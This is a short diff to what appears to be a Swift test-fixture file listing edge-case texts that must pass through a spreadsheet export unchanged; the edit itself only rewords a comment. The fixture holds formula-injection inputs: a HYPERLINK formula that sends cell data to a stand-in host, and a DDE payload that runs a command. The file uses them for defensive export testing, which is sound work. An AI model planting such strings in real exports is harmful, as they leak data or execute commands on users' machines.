@@ -1,6 +1,6 @@
 /// Texts that have broken somebody's export: each has to come out of the far end as it went in.
 enum EdgeCaseText {
-    /// What a spreadsheet would take for a formula, or for a number it is not.
+    /// Texts that a spreadsheet would take for a formula, or for a number that they are not.
     static let formulas = [
         "=SUM(A1)", "=HYPERLINK(\"http://example.test?x=\"&A1,\"click\")", "+1", "-1", "+385 91 000 0000", "@cmd",
         "@SUM(1+1)*cmd|' /C calc'!A0",
